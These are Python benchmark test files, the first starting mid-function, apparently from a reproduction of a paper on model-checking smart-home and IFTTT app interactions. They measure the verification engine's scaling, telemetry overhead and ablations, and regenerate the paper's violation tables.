    assert reduced.violated_property_ids == collapse.violated_property_ids
    assert reduced.transitions < collapse.transitions
    assert reduced.commutes_pruned > 0
    # memory: collapse entries must stay within a small multiple of the
    # one-word fingerprint entries and an order of magnitude under the
    # exact store's canonical keys
    assert bytes_per_state(collapse) < bytes_per_state(exact_shallow) / 5
    assert bytes_per_state(collapse) < bytes_per_state(fingerprint) * 4
    # the depth-4 hit rate is why the successor cache auto-disables
    assert fingerprint.cache_auto_disabled


def test_table8_telemetry_overhead(generator, benchmark, tmp_path):
    """The observability axis: a live JSONL telemetry sink must be a
    bystander on the hot path.

    Snapshots piggyback on the engine's existing ``check_interval``
    sampling branch (floored at 4096 transitions between snapshots by
    default), so the depth-3 workload pays a handful of dict builds and
    line writes per run.  Samples are interleaved (so slow drift on a
    shared runner biases neither side) in batches of five pairs, taking
    more batches only when the best-of mins have not yet converged; the
    acceptance bar is <3% throughput loss with the sink on.
    """
    system = five_app_system(generator)
    properties = select_relevant(system, build_properties())
    sink = str(tmp_path / "bench-telemetry.jsonl")

    def run(**kwargs):
        return verify(system, properties, max_events=3,
                      max_states=3000000, **kwargs)

    def best(results):
        return min(results, key=lambda r: r.elapsed)

    run(telemetry=sink)  # warm both code paths before timing
    # best-of mins converge to the true floor as samples accumulate, so
    # a noisy first batch (shared-runner scheduling jitter dwarfs the
    # ~10 snapshot writes per run) earns more batches instead of a flake
    off_runs, on_runs = [], []
    for _batch in range(3):
        for _ in range(5):
            off_runs.append(run())
            on_runs.append(run(telemetry=sink))
        off = best(off_runs)
        on = best(on_runs)
        if on.states_per_second >= off.states_per_second * 0.97:
            break
    benchmark.pedantic(lambda: run(telemetry=sink), iterations=1, rounds=1)

    from repro.obs import read_events

    events = read_events(sink)
    snapshots = [e for e in events if e["kind"] == "snapshot"]
    overhead = 1.0 - on.states_per_second / off.states_per_second

    rows = [("telemetry off", off.states_explored,
             "%.0f" % off.states_per_second, "-"),
            ("JSONL sink on", on.states_explored,
             "%.0f" % on.states_per_second,
             "%.1f%%" % (overhead * 100.0))]
    print_table("Telemetry overhead at 3 events (best of %d, interleaved)"
                % len(on_runs),
                ["run", "states", "states/sec", "overhead"], rows)
    update_bench_artifact("table8", "telemetry", {
        "off": {
            "states": off.states_explored,
            "seconds": round(off.elapsed, 4),
            "states_per_second": round(off.states_per_second, 1),
        },
        "sink": {
            "states": on.states_explored,
            "seconds": round(on.elapsed, 4),
            "states_per_second": round(on.states_per_second, 1),
        },
        "overhead_percent": round(overhead * 100.0, 2),
        "snapshots_per_run": len(snapshots) // max(1, len(on_runs) + 2),
    })

    # a pure observer: identical coverage either way
    assert on.states_explored == off.states_explored
    assert on.transitions == off.transitions
    assert on.violated_property_ids == off.violated_property_ids
    # the sink must have recorded the runs it watched
    assert sum(1 for e in events if e["kind"] == "run_end") \
        == len(on_runs) + 2
    # the acceptance bar: <3% throughput loss with telemetry enabled
    assert on.states_per_second >= off.states_per_second * 0.97, (
        "telemetry overhead %.1f%% (off %.0f st/s, on %.0f st/s)"
        % (overhead * 100.0, off.states_per_second, on.states_per_second))


#: the PR 5 fingerprint-scatter sharded run at depth 4: full-pickle
#: handoffs for 138,018 states.  The locality acceptance bar is an
#: order of magnitude under this committed figure
PR5_BASELINE_HANDOFFS = 364596

#: the same committed run's wire cost per state, measured by replaying
#: the depth-4 workload through the PR 5 sharded engine with its
#: ``_flush_peer`` instrumented: batch-pickling the old
#: ``(state, depth, sleep, full TraceStep path)`` units cost
#: 195,155,296 bytes for 138,018 states (~572 bytes per handoff).  The
#: delta-wire acceptance bar is >= 5x under this per-state figure
PR5_BASELINE_WIRE_BYTES_PER_STATE = 1414.0


def test_table8_sharded_workers(benchmark):
    """The swarm axis: one deep run sharded across worker processes.

    State ownership is partitioned per ``--partition``: ``fingerprint``
    scatters states evenly but ships most edges across shards;
    ``locality`` (the default) owns states by a stable projection of
    the packed slot grid, keeping successor chains shard-local.  Both
    rows are recorded in ``BENCH_table8.json`` (``workers.partitioners``
    section) with their handoff counts and wire bytes.  Verdicts and
    the distinct-state count must match the single-worker run exactly;
    the handoff reductions are asserted on any machine, the >= 1.5x
    speedup only where real cores exist - single-core CI records the
    numbers without judging them.
    """
    from repro.engine.batch import execute_job_inline
    from repro.engine.parallel import explore_sharded

    config = five_app_config()
    depth = 4
    cores = os.cpu_count() or 1

    def job(workers, partition):
        return VerificationJob(
            "sharded", config, EngineOptions(max_events=depth,
                                             max_states=3000000,
                                             workers=workers,
                                             partition=partition))

    single = execute_job_inline(job(1, "locality"))
    sharded = {"fingerprint": explore_sharded(job(2, "fingerprint")),
               "locality": benchmark.pedantic(
                   explore_sharded, args=(job(2, "locality"),),
                   iterations=1, rounds=1)}

    def wire(result):
        handoffs = sum(s["handoffs_sent"] for s in result.shard_stats)
        return (handoffs,
                sum(s["handoff_bytes"] for s in result.shard_stats),
                sum(s["steals"] for s in result.shard_stats),
                sum(s["stolen_states"] for s in result.shard_stats))

    rows = [("1 worker", single.states_explored, "-", "-",
             "%.2fs" % single.elapsed,
             "%.0f" % single.states_per_second)]
    partitioners = {}
    for partition, result in sharded.items():
        handoffs, handoff_bytes, steals, stolen = wire(result)
        rows.append(("2 workers (%s)" % partition, result.states_explored,
                     handoffs, "%.1f KiB" % (handoff_bytes / 1024.0),
                     "%.2fs" % result.elapsed,
                     "%.0f" % result.states_per_second))
        partitioners[partition] = {
            "states": result.states_explored,
            "seconds": round(result.elapsed, 4),
            "states_per_second": round(result.states_per_second, 1),
            "speedup": round(single.elapsed / result.elapsed, 3)
            if result.elapsed else 0.0,
            "handoffs": handoffs,
            "handoffs_per_state": round(
                handoffs / result.states_explored, 4)
            if result.states_explored else 0.0,
            "handoff_bytes": handoff_bytes,
            "handoff_bytes_per_state": round(
                handoff_bytes / result.states_explored, 1)
            if result.states_explored else 0.0,
            "steals": steals,
            "stolen_states": stolen,
        }
    print_table("Sharded swarm exploration at %d events (%d cores)"
                % (depth, cores),
                ["run", "states", "handoffs", "wire", "wall clock",
                 "states/sec"], rows)
    update_bench_artifact("table8", "workers", {
        "events": depth,
        "cores": cores,
        "single": {
            "states": single.states_explored,
            "seconds": round(single.elapsed, 4),
            "states_per_second": round(single.states_per_second, 1),
        },
        "partitioners": partitioners,
    })

    for partition, result in sharded.items():
        # ownership partitioning preserves coverage and verdicts exactly
        assert result.states_explored == single.states_explored, partition
        assert (result.violated_property_ids
                == single.violated_property_ids), partition
        assert result.workers == 2 and len(result.shard_stats) == 2
    # the tentpole acceptance bar, independent of core count: >= 10x
    # fewer handoffs than the committed PR 5 scatter, and >= 5x fewer
    # wire bytes per state than the same run's full-pickle format
    locality = partitioners["locality"]
    assert locality["handoffs"] * 10 <= PR5_BASELINE_HANDOFFS
    assert locality["handoff_bytes_per_state"] * 5 \
        <= PR5_BASELINE_WIRE_BYTES_PER_STATE
    # the delta wire also pays off without any locality: the scatter
    # partitioner ships (N-1)/N of all edges and still comes in under
    # the old per-state wire cost by the same margin
    assert partitioners["fingerprint"]["handoff_bytes_per_state"] * 5 \
        <= PR5_BASELINE_WIRE_BYTES_PER_STATE
    if cores >= 2:
        # with real cores the acceptance bar is >= 1.5x at depth 4
        assert sharded["locality"].elapsed < single.elapsed / 1.5
    else:
        # a single core can only demonstrate bounded sharding overhead
        # (two processes time-slicing one core plus handoff encoding;
        # the bound only catches pathological blowups)
        assert sharded["locality"].elapsed < single.elapsed * 4.0


def test_table8_swarm_tier(generator, benchmark):
    """The beyond-exhaustive axis: swarm sampling and the spill store.

    Three rows on the depth-3 workload: the exhaustive reference, a
    4-member swarm (diversified sampled members through the same
    engine), and the disk-backed spill store (exact verdicts, working
    set in SQLite).  The swarm must agree with the exhaustive verdict
    on this violation-free system while honestly reporting partial
    coverage; the spill store must reproduce the exhaustive run's
    coverage exactly.  All three land in ``BENCH_table8.json``'s
    ``swarm`` section for the (non-gating) regression diff.
    """
    system = five_app_system(generator)
    properties = select_relevant(system, build_properties())

    def run(**kwargs):
        return verify(system, properties, max_events=3,
                      max_states=3000000, **kwargs)

    exhaustive = run()
    swarm = benchmark.pedantic(
        lambda: run(mode="swarm", swarm_members=4, seed=1),
        iterations=1, rounds=2)
    spill = run(visited="spill", successor_cache=False)

    rows = [
        ("exhaustive (reference)", exhaustive.states_explored,
         "%.0f" % exhaustive.states_per_second, exhaustive.coverage),
        ("swarm (4 members)", swarm.states_explored,
         "%.0f" % swarm.states_per_second, swarm.coverage),
        ("spill store (on disk)", spill.states_explored,
         "%.0f" % spill.states_per_second, spill.coverage),
    ]
    print_table("Swarm tier at 3 events",
                ["run", "states", "states/sec", "coverage"], rows)
    update_bench_artifact("table8", "swarm", {
        "exhaustive": {
            "states": exhaustive.states_explored,
            "transitions": exhaustive.transitions,
            "states_per_second": round(exhaustive.states_per_second, 1),
        },
        "swarm_4": {
            "members": 4,
            "seed": 1,
            "states": swarm.states_explored,
            "transitions": swarm.transitions,
            "states_per_second": round(swarm.states_per_second, 1),
            "coverage_estimate": swarm.swarm["coverage_estimate"],
            "candidates": swarm.swarm["candidates"],
        },
        "spill": {
            "states": spill.states_explored,
            "transitions": spill.transitions,
            "states_per_second": round(spill.states_per_second, 1),
            "bytes_per_state": spill.visited_stats.get("bytes_per_state",
                                                       0.0),
        },
    })

    # the soundness split: same verdict, honest coverage labels
    assert swarm.verdict == exhaustive.verdict
    assert swarm.coverage == "partial"
    assert swarm.swarm["replay_failures"] == 0
    # the spill store is exact: identical coverage and verdicts
    assert spill.states_explored == exhaustive.states_explored
    assert spill.transitions == exhaustive.transitions
    assert spill.violated_property_ids == exhaustive.violated_property_ids
    assert spill.coverage == "exhaustive"


def test_table8_parallel_batch(generator, benchmark):
    """The whole-run axis: scaling points are independent verification
    jobs, so ``verify_many`` fans them across a process pool."""
    config = five_app_config()
    jobs = [VerificationJob("job%d events=%d" % (index, max_events), config,
                            EngineOptions(max_events=max_events,
                                          max_states=3000000))
            for index, max_events in enumerate((1, 2, 3, 3))]

    started = time.monotonic()
    serial = verify_many(jobs, workers=1)
    serial_wall = time.monotonic() - started

    started = time.monotonic()
    parallel = benchmark.pedantic(verify_many, args=(jobs,),
                                  kwargs={"workers": len(jobs)},
                                  iterations=1, rounds=1)
    parallel_wall = time.monotonic() - started

    rows = [("serial loop", "%.2fs" % serial_wall, serial.states_explored),
            ("verify_many x%d" % len(jobs), "%.2fs" % parallel_wall,
             parallel.states_explored)]
    print_table("Table 8 scaling points as a parallel batch (%d cores)"
                % (os.cpu_count() or 1),
                ["execution", "wall clock", "states"], rows)

    assert not serial.errors and not parallel.errors
    assert parallel.states_explored == serial.states_explored
    assert parallel.violated_property_ids == serial.violated_property_ids
    if (os.cpu_count() or 1) >= 2:
        # with real cores available the pool must beat the serial loop
        assert parallel_wall < serial_wall
    else:
        # a single-core box can only demonstrate bounded pool overhead
        assert parallel_wall < serial_wall * 2.0
