"""Ablations for the design choices DESIGN.md calls out.

1. **Dependency analysis on/off** - checking one related set at a time
   versus throwing the whole group at the checker (the §5 motivation).
2. **BITSTATE sizing** - the bitfield size / collision trade-off behind
   §2.3's "empirical results ... have proved its effectiveness".
3. **Relevance-based property selection** - the §8 user-selection stand-in
   versus verifying all 45 properties.
"""

import time

from repro.engine import EngineOptions, ExplorationEngine, verify
from repro.checker.visited import BitStateTable
from repro.corpus.groups import expert_configuration
from repro.deps import analyze_apps
from repro.model.generator import ModelGenerator
from repro.properties import build_properties, select_relevant

from conftest import print_table

_GROUP = "group1-entry-and-mode"


def test_ablation_dependency_analysis(registry, generator, benchmark):
    """Verify related sets separately vs the whole group jointly."""
    config = expert_configuration(_GROUP)
    apps = [registry[a.app] for a in config.apps if a.app in registry]
    analysis = analyze_apps(apps)

    whole_system = generator.build(config)
    properties = select_relevant(whole_system, build_properties())
    options = EngineOptions(max_events=2, max_states=100000)

    started = time.monotonic()
    whole = ExplorationEngine(whole_system, properties, options).run()
    whole_elapsed = time.monotonic() - started

    def check_related_sets():
        total_states = 0
        violated = set()
        for group_apps in analysis.app_groups():
            sub_config = expert_configuration(_GROUP)
            sub_config.apps = [a for a in sub_config.apps
                               if a.app in group_apps]
            system = generator.build(sub_config)
            sub_properties = select_relevant(system, build_properties())
            result = ExplorationEngine(system, sub_properties, options).run()
            total_states += result.states_explored
            violated.update(result.violated_property_ids)
        return total_states, violated

    started = time.monotonic()
    split_states, split_violated = benchmark.pedantic(
        check_related_sets, iterations=1, rounds=2)
    split_elapsed = time.monotonic() - started

    rows = [("whole group jointly", whole.states_explored,
             "%.2fs" % whole_elapsed,
             ", ".join(whole.violated_property_ids)),
            ("per related set (%d sets)" % len(analysis.related_sets),
             split_states, "%.2fs" % split_elapsed,
             ", ".join(sorted(split_violated)))]
    print_table("Ablation - App Dependency Analyzer (§5): the related-set "
                "split must find the same physical-state violations",
                ["strategy", "states", "time", "violated properties"], rows)
    # the split never loses the headline violations
    assert set(whole.violated_property_ids) <= split_violated | {"P39", "P40"}


def test_ablation_bitstate_sizing(generator, benchmark):
    """Collision rate vs bitfield size on a real exploration workload."""
    config = expert_configuration(_GROUP)
    system = generator.build(config)
    properties = select_relevant(system, build_properties())

    def explore_with_bits(bits):
        options = EngineOptions(max_events=3, visited="bitstate",
                                  bitstate_bits=bits, max_states=120000)
        return ExplorationEngine(system, properties, options).run()

    exact = verify(system, properties, max_events=3, max_states=120000)
    rows = [("exact", "-", exact.states_explored, "-")]
    for bits in (12, 16, 20, 24):
        result = explore_with_bits(bits)
        table = BitStateTable(bits_log2=bits)
        rows.append(("bitstate", "2^%d" % bits, result.states_explored,
                     "%.1f%%" % (100.0 * (1 - result.states_explored
                                          / max(1, exact.states_explored)))))
    print_table("Ablation - BITSTATE sizing (§2.3): larger bitfields "
                "recover exact-store coverage",
                ["store", "bits", "states explored", "states lost"], rows)

    small = explore_with_bits(12).states_explored
    large = explore_with_bits(24).states_explored
    assert large >= small
    # depth-aware re-expansion is impossible in a bitfield, so even a
    # large table explores fewer states than the exact store
    assert large >= exact.states_explored * 0.6

    benchmark.pedantic(explore_with_bits, args=(20,), iterations=1,
                       rounds=3)


def test_ablation_property_selection(generator, benchmark):
    """All 45 properties vs the relevance-selected subset."""
    config = expert_configuration(_GROUP)
    system = generator.build(config)
    all_properties = build_properties()
    selected = select_relevant(system, all_properties)

    options = EngineOptions(max_events=2, max_states=60000)
    with_all = ExplorationEngine(system, all_properties, options).run()
    with_selected = benchmark.pedantic(
        ExplorationEngine(system, selected, options).run, iterations=1, rounds=3)

    noise = set(with_all.violated_property_ids) - set(
        with_selected.violated_property_ids)
    rows = [("all 45 properties", len(all_properties),
             len(with_all.violations),
             ", ".join(sorted(noise)) or "-"),
            ("relevance-selected", len(selected),
             len(with_selected.violations), "-")]
    print_table("Ablation - property selection (§8): relevance selection "
                "removes violations no installed app could prevent",
                ["property set", "properties", "violations",
                 "noise-only properties"], rows)
    assert len(selected) < len(all_properties)
    # selection must not drop any violation of a selected property
    assert set(with_selected.violated_property_ids) <= set(
        with_all.violated_property_ids)
