"""Shared benchmark fixtures and the paper-vs-measured report helper.

Every benchmark regenerates one table or figure of the paper.  Absolute
timings differ from the authors' MacBook + Spin setup; what must hold is
the *shape*: which configurations violate which properties, who wins
(sequential vs concurrent), and how runtimes grow with the event bound.

Run with ``pytest benchmarks/ --benchmark-only -s`` to see the rows.
"""

import json
import os

import pytest

from repro.corpus import load_all_apps
from repro.model.generator import ModelGenerator

#: perf artifacts land at the repo root so future PRs (and the CI upload
#: step) have a recorded baseline to compare against
ARTIFACT_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def update_bench_artifact(name, section, payload):
    """Merge one section into ``BENCH_<name>.json`` at the repo root.

    Benchmarks call this per test, so the artifact accumulates every
    measured axis of one run (trajectory, engine modes, store costs).
    """
    path = os.path.join(ARTIFACT_DIR, "BENCH_%s.json" % name)
    document = {}
    if os.path.exists(path):
        try:
            with open(path, "r", encoding="utf-8") as handle:
                document = json.load(handle)
        except (ValueError, OSError):
            document = {}
    document["benchmark"] = name
    document[section] = payload
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(document, handle, indent=2, sort_keys=True)
        handle.write("\n")
    return path


@pytest.fixture(scope="session")
def registry():
    return load_all_apps()


@pytest.fixture(scope="session")
def generator(registry):
    return ModelGenerator(registry)


def print_table(title, headers, rows):
    """Render one paper-style table to stdout (visible with ``-s``)."""
    widths = [max(len(str(h)), *(len(str(r[i])) for r in rows))
              if rows else len(str(h))
              for i, h in enumerate(headers)]
    lines = ["", "=" * 72, title, "=" * 72]
    lines.append("  ".join(str(h).ljust(w) for h, w in zip(headers, widths)))
    lines.append("  ".join("-" * w for w in widths))
    for row in rows:
        lines.append("  ".join(str(c).ljust(w) for c, w in zip(row, widths)))
    print("\n".join(lines))
