"""Shared benchmark fixtures and the paper-vs-measured report helper.

Every benchmark regenerates one table or figure of the paper.  Absolute
timings differ from the authors' MacBook + Spin setup; what must hold is
the *shape*: which configurations violate which properties, who wins
(sequential vs concurrent), and how runtimes grow with the event bound.

Run with ``pytest benchmarks/ --benchmark-only -s`` to see the rows.
"""

import pytest

from repro.corpus import load_all_apps
from repro.model.generator import ModelGenerator


@pytest.fixture(scope="session")
def registry():
    return load_all_apps()


@pytest.fixture(scope="session")
def generator(registry):
    return ModelGenerator(registry)


def print_table(title, headers, rows):
    """Render one paper-style table to stdout (visible with ``-s``)."""
    widths = [max(len(str(h)), *(len(str(r[i])) for r in rows))
              if rows else len(str(h))
              for i, h in enumerate(headers)]
    lines = ["", "=" * 72, title, "=" * 72]
    lines.append("  ".join(str(h).ljust(w) for h, w in zip(headers, widths)))
    lines.append("  ".join("-" * w for w in widths))
    for row in rows:
        lines.append("  ".join(str(c).ljust(w) for c, w in zip(row, widths)))
    print("\n".join(lines))
