"""Table 5: verification results with market apps (expert configurations).

Runs the six expert groups through the checker with and without
device/communication failures, and prints the Table-5 rows (violation
type, count, example apps).  Paper: 38 violations of 11 properties from
app interactions, plus 9 additional properties under failures.
"""

from repro.engine import EngineOptions, ExplorationEngine
from repro.corpus.groups import EXPERT_GROUPS, expert_configuration
from repro.properties import build_properties, select_relevant
from repro.properties.base import (
    KIND_CONFLICT,
    KIND_INVARIANT,
    KIND_REPEAT,
    KIND_ROBUSTNESS,
)

from conftest import print_table

_OPTIONS = dict(max_events=2, max_states=60000)

_TYPE_LABELS = {
    KIND_CONFLICT: "Conflicting commands",
    KIND_REPEAT: "Repeated commands",
    KIND_INVARIANT: "Unsafe physical states",
    KIND_ROBUSTNESS: "Robustness to failure",
}


def run_groups(generator, enable_failures):
    violations = []
    for group_name in EXPERT_GROUPS:
        config = expert_configuration(group_name)
        system = generator.build(config, enable_failures=enable_failures)
        properties = select_relevant(system, build_properties())
        result = ExplorationEngine(system, properties,
                          EngineOptions(**_OPTIONS)).run()
        violations.extend(result.violations)
    return violations


def summarize(violations):
    by_type = {}
    for violation in violations:
        label = _TYPE_LABELS.get(violation.property.kind, "Other")
        entry = by_type.setdefault(label, {"count": 0, "example": None})
        entry["count"] += 1
        if entry["example"] is None and violation.apps:
            entry["example"] = (violation.property.name,
                                ", ".join(sorted(set(violation.apps))[:4]))
    return by_type


def test_table5_no_failures(generator, benchmark):
    violations = benchmark.pedantic(run_groups, args=(generator, False),
                                    iterations=1, rounds=2)
    by_type = summarize(violations)
    rows = []
    for label, entry in sorted(by_type.items()):
        example = entry["example"] or ("", "")
        rows.append((label, entry["count"], example[0][:38], example[1]))
    properties = {v.property.id for v in violations}
    rows.append(("TOTAL", len(violations),
                 "%d properties" % len(properties), ""))
    print_table("Table 5 - market apps, expert configs, no failures "
                "(paper: 38 violations of 11 properties; "
                "conflicting 8, repeated 10, unsafe states 20)",
                ["violation type", "count", "example property",
                 "apps in example"], rows)
    assert by_type["Conflicting commands"]["count"] >= 2
    assert by_type["Repeated commands"]["count"] >= 2
    assert by_type["Unsafe physical states"]["count"] >= 8
    assert 8 <= len(properties) <= 20


def test_table5_with_failures(generator, benchmark):
    """Failures must add violated properties (paper: 9 additional)."""
    base = run_groups(generator, False)
    violations = benchmark.pedantic(run_groups, args=(generator, True),
                                    iterations=1, rounds=1)
    base_properties = {v.property.id for v in base}
    failure_properties = {v.property.id for v in violations}
    added = sorted(failure_properties - base_properties)
    rows = [("without failures", len(base), len(base_properties), ""),
            ("with failures", len(violations), len(failure_properties),
             ", ".join(added))]
    print_table("Table 5 (cont.) - device/communication failures "
                "(paper: failures violate 9 additional properties)",
                ["scenario", "violations", "properties",
                 "properties added by failures"], rows)
    assert len(added) >= 2
    # the paper's headline robustness gap: no app verifies its commands
    assert "P45" in failure_properties


def test_fig8b_motion_sensor_failure(generator, benchmark):
    """Fig 8b: Make It So misses the lock-up because the sensor fails."""
    from repro.config.schema import SystemConfiguration

    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("alicePresence", "smartsense-presence")
    config.add_device("livRoomMotion", "smartsense-motion")
    config.add_device("frontContact", "smartsense-multi")
    config.add_device("frontDoorLock", "zwave-lock")
    config.add_device("light1", "smart-outlet")
    config.association["main_door_lock"] = "frontDoorLock"
    config.add_app("Darken Behind Me", {"motion1": "livRoomMotion",
                                        "switches": ["light1"]})
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away",
                                        "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "frontDoorLock"})
    config.add_app("Make It So", {"motionSensor": "livRoomMotion",
                                  "door": "frontContact",
                                  "locks": ["frontDoorLock"],
                                  "awayMode": "Away"})
    system = generator.build(config, enable_failures=True)
    properties = select_relevant(system, build_properties())

    result = benchmark.pedantic(
        ExplorationEngine(system, properties,
                 EngineOptions(max_events=2, max_states=80000)).run,
        iterations=1, rounds=2)

    rows = [(v.property.id, ", ".join(sorted(set(v.apps))) or "-",
             v.message[:60]) for v in result.violations]
    print_table("Figure 8b - violations with a failing device "
                "(paper: door left unlocked, no notification)",
                ["property", "apps", "violation"], rows)
    assert "P45" in result.violated_property_ids
    assert any(v.property.id in ("P06", "P08", "P11")
               for v in result.violations)
