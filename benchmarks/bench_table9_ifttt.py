"""Table 9: verification results with IFTTT rules.

Ten applets, translated through the IFTTT Handler and deployed into one
smart home, must reproduce the paper's seven violations of four unsafe
physical states - e.g. the "good night" phrase rule (#4) silencing the
siren that the motion rules (#1, #3) arm.
"""

import re

from repro.engine import EngineOptions, ExplorationEngine
from repro.ifttt import TABLE9_PROPERTIES, table9_configuration
from repro.ifttt.table9 import TABLE9_EXPECTED, table9_registry
from repro.model.generator import ModelGenerator

from conftest import print_table


def run_table9():
    registry = table9_registry()
    config = table9_configuration()
    system = ModelGenerator(registry).build(config)
    options = EngineOptions(max_events=2, max_states=150000)
    return ExplorationEngine(system, TABLE9_PROPERTIES, options).run()


def _rule_numbers(apps):
    numbers = set()
    for app in apps:
        match = re.match(r"Rule #(\d+)", app)
        if match:
            numbers.add(int(match.group(1)))
    return frozenset(numbers)


def test_table9_ifttt_rules(benchmark):
    result = benchmark.pedantic(run_table9, iterations=1, rounds=2)

    found = {}
    for counterexample in result.counterexamples.values():
        violation = counterexample.violation
        found.setdefault(violation.property.id, []).append(
            _rule_numbers(set(violation.apps)))

    rows = []
    matched = 0
    expected_total = 0
    for property_id, groups in sorted(TABLE9_EXPECTED.items()):
        prop = next(p for p in TABLE9_PROPERTIES if p.id == property_id)
        for expected in groups:
            expected_total += 1
            numbers = {int(r.replace("rule", "").lstrip("0"))
                       for r in expected}
            hit = any(numbers <= rules
                      for rules in found.get(property_id, []))
            matched += hit
            rows.append((property_id, prop.name[:42],
                         ",".join("#%d" % n for n in sorted(numbers)),
                         "reproduced" if hit else "MISSING"))
    extras = sum(len(groups) for groups in found.values()) - matched
    rows.append(("", "TOTAL", "%d/%d groups" % (matched, expected_total),
                 "+%d extra findings" % max(0, extras)))
    print_table("Table 9 - IFTTT rules (paper: 7 violations of 4 unsafe "
                "physical states)",
                ["property", "violated property", "related rules",
                 "status"], rows)

    assert matched == expected_total  # all 7 paper groups reproduced
    assert set(found) == {"I01", "I02", "I03", "I04"}
