"""Figure 4 / Tables 2-3 / Table 7a: the App Dependency Analyzer.

Regenerates the paper's worked example (the five Table-2 apps and their
related sets) and the Table-7a scale ratios of the six expert groups.
"""

import pytest

from repro.corpus.groups import EXPERT_GROUPS, expert_configuration
from repro.deps import analyze_apps

from conftest import print_table

PAPER_APPS = ["Brighten Dark Places", "Let There Be Dark!",
              "Auto Mode Change", "Unlock Door", "Big Turn On"]

#: Table 7a as published
PAPER_TABLE7A = {1: 3.4, 2: 5.4, 3: 1.5, 4: 2.5, 5: 2.2, 6: 5.7}


def test_fig4_related_sets(registry, benchmark):
    """Fig 4b: related sets {3}, {2,4}, {0,1}, {1,5}, {1,2,6}."""
    apps = [registry[name] for name in PAPER_APPS]
    analysis = benchmark(analyze_apps, apps)

    rows = []
    for index, related in enumerate(analysis.related_sets, 1):
        members = sorted(
            "%s.%s" % (a, h)
            for vid in related
            for a, h in analysis.merged_graph.vertices[vid].members)
        rows.append((index, len(related), "; ".join(members)))
    print_table("Figure 4b / Table 3c - final related sets "
                "(paper: 5 sets {3} {2,4} {0,1} {1,5} {1,2,6})",
                ["set", "vertices", "handlers"], rows)
    assert len(analysis.related_sets) == 5


def test_table7a_scale_ratios(registry, benchmark):
    """Table 7a: dependency analysis shrinks each group's problem size."""

    def analyze_groups():
        results = {}
        for group_name in EXPERT_GROUPS:
            config = expert_configuration(group_name)
            apps = [registry[a.app] for a in config.apps
                    if a.app in registry]
            results[group_name] = analyze_apps(apps)
        return results

    results = benchmark(analyze_groups)

    rows = []
    ratios = []
    for index, (group_name, analysis) in enumerate(
            sorted(results.items()), 1):
        ratios.append(analysis.scale_ratio)
        rows.append((index, group_name, analysis.original_size,
                     analysis.new_size, "%.1f" % analysis.scale_ratio,
                     PAPER_TABLE7A[index]))
    mean = sum(ratios) / len(ratios)
    rows.append(("", "mean", "", "", "%.1f" % mean, 3.4))
    print_table("Table 7a - scalability with dependency graphs "
                "(paper mean scale ratio: 3.4x)",
                ["group", "name", "original size", "new size",
                 "scale ratio", "paper"], rows)
    # the shape: every group shrinks, mean ratio is meaningfully > 1
    assert all(r >= 1.0 for r in ratios)
    assert mean > 1.3
