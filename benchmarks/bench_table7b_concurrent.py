"""Table 7b: concurrent vs sequential design runtimes.

The paper's good group (2 apps, 7 devices, no violations) explodes under
the concurrent design (1s, 56.5s, 139m, "forever") while the sequential
design stays around a second up to 7 events.  We reproduce the *shape*:
concurrent state counts and runtimes grow explosively with the event
bound; sequential stays tractable.
"""

import time

from repro.engine import CONCURRENT, SEQUENTIAL, verify
from repro.config.schema import SystemConfiguration
from repro.properties import build_properties, select_relevant

from conftest import print_table

#: Table 7b as published (seconds; paper's concurrent 4-event run never
#: finished within a week)
PAPER = {
    SEQUENTIAL: {1: 1, 2: 1, 3: 1, 4: 1, 5: 1, 6: 4.2, 7: 16.3},
    CONCURRENT: {1: 1, 2: 56.5, 3: 8340, 4: float("inf")},
}


def good_group(generator):
    """A good group: Good Night + It's Too Cold, 3 switches, 3 motion
    sensors, 1 temperature sensor (§10.1 'Performance')."""
    config = SystemConfiguration(contacts=["+1-555-0100"])
    for index in range(3):
        config.add_device("switch%d" % index, "smart-outlet")
        config.add_device("motion%d" % index, "smartsense-motion")
    config.add_device("tempMeas", "temperature-sensor")
    config.add_app("Good Night", {
        "lights": ["switch0", "switch1", "switch2"],
        "motionSensor": "motion0", "nightMode": "Night"})
    config.add_app("It's Too Cold", {
        "temperatureSensor1": "tempMeas", "temperature1": 60,
        "phone1": "+1-555-0100", "heater": "switch1"})
    return generator.build(config)


def measure(system, properties, mode, max_events, budget=12.0):
    started = time.monotonic()
    result = verify(system, properties, mode=mode, max_events=max_events,
                    max_states=2000000, time_limit=budget)
    elapsed = time.monotonic() - started
    return elapsed, result


def test_table7b_sequential_vs_concurrent(generator, benchmark):
    system = good_group(generator)
    properties = select_relevant(system, build_properties())

    rows = []
    measured = {SEQUENTIAL: {}, CONCURRENT: {}}
    for mode, bounds in ((SEQUENTIAL, (1, 2, 3, 4)),
                         (CONCURRENT, (1, 2, 3))):
        for max_events in bounds:
            elapsed, result = measure(system, properties, mode, max_events)
            measured[mode][max_events] = (elapsed, result)
            paper_value = PAPER[mode].get(max_events, "-")
            rows.append((mode, max_events, "%.3fs" % elapsed,
                         result.states_explored,
                         "yes" if result.truncated else "no",
                         paper_value))
    print_table("Table 7b - concurrent vs sequential runtimes "
                "(paper: sequential 1s up to 5 events; concurrent "
                "56.5s at 2, 139m at 3, forever at 4)",
                ["design", "events", "time", "states", "truncated",
                 "paper (s)"], rows)

    # who wins: sequential beats concurrent at every shared bound >= 2
    for max_events in (2, 3):
        seq_states = measured[SEQUENTIAL][max_events][1].states_explored
        con_states = measured[CONCURRENT][max_events][1].states_explored
        assert con_states > seq_states

    # crossover shape: the concurrent blow-up factor grows with the bound
    con = measured[CONCURRENT]
    growth_2 = con[2][1].states_explored / max(1, con[1][1].states_explored)
    assert growth_2 > 2

    # and neither design misses violations on a violating system: checked
    # in tests; here assert the good group is indeed violation-free
    assert not measured[SEQUENTIAL][3][1].has_violations

    # benchmark the headline comparison pair (3 events)
    benchmark.pedantic(
        lambda: verify(system, properties, mode=SEQUENTIAL, max_events=3),
        iterations=1, rounds=3)


def test_table7b_both_find_same_violations(generator, benchmark):
    """§8: 'the sequential approach ... discovered all violations that the
    strict concurrent model found'."""
    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("alicePresence", "smartsense-presence")
    config.add_device("doorLock", "zwave-lock")
    config.association["main_door_lock"] = "doorLock"
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away",
                                        "homeMode": "Home"})
